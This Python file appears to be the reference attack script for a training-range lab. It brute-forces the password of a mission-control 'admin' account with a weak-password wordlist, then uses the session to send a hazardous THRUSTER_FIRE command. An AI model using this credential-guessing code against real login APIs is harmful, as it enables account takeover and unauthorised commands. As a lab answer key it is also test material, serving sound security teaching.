"""Reference attack for mc-access: run on the attacker workstation, as the student.

1. Try every password of the workstation's list of common passwords on mission control's
   flight-director account `admin` (POST /api/login answers 401 until one matches; nothing
   locks the account).
2. Log in with the password found and ask GET /api/commands what the account may send.
3. Fire the thruster: POST /api/commands {"name": "THRUSTER_FIRE", ...}.

Exit status 0 when mission control accepted the hazardous command (HTTP 201), 1 otherwise.
"""

from __future__ import annotations

import json
import sys
import time
import urllib.error
import urllib.request
from pathlib import Path
from typing import Any

from labctl.range import wiring

MISSION_CONTROL = wiring.MISSION_CONTROL_URL
WORDLIST = Path("/opt/labctl/lib/python3.11/site-packages/labctl/data/wordlists/weak-passwords.txt")
USERNAME = "admin"
COMMAND = {"name": "THRUSTER_FIRE", "args": {"duration_ms": 500}}


def call(method: str, path: str, body: Any = None, token: str | None = None) -> tuple[int, Any]:
    data = None if body is None else json.dumps(body).encode()
    request = urllib.request.Request(f"{MISSION_CONTROL}{path}", data=data, method=method)
    request.add_header("Content-Type", "application/json")
    if token:
        request.add_header("Authorization", f"Bearer {token}")
    try:
        with urllib.request.urlopen(request, timeout=10) as reply:
            return reply.status, json.loads(reply.read() or b"null")
    except urllib.error.HTTPError as error:
        return error.code, json.loads(error.read() or b"null")


def words() -> list[str]:
    lines = WORDLIST.read_text().splitlines()
    return [line.strip() for line in lines if line.strip() and not line.startswith("#")]


def guess(username: str) -> tuple[str, str] | None:
    """(password, token) of the first word that logs in as ``username``."""
    for word in words():
        status, body = call("POST", "/api/login", {"username": username, "password": word})
        if status == 200:
            return word, str(body["token"])
    return None


def main() -> int:
    started = time.monotonic()
    found = guess(USERNAME)
    if found is None:
        print(f"no password of {WORDLIST.name} logs in as {USERNAME!r}")
        return 1
    password, token = found
    print(f"{USERNAME!r} logs in with {password!r} ({time.monotonic() - started:.1f} s)")
    _, session = call("POST", "/api/login", {"username": USERNAME, "password": password})
    for note in session.get("notes", []):
        print(f"shift note for this account: {note}")
    _, offered = call("GET", "/api/commands", token=token)
    allowed = [c["name"] for c in offered["commands"] if c["allowed"] and c["hazardous"]]
    print(f"hazardous commands this account may send: {', '.join(allowed) or 'none'}")
    status, body = call("POST", "/api/commands", COMMAND, token)
    if status != 201:
        print(f"THRUSTER_FIRE refused: HTTP {status} {body}")
        return 1
    print(f"THRUSTER_FIRE accepted by mission control: command {body['id']}, {body['status']}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
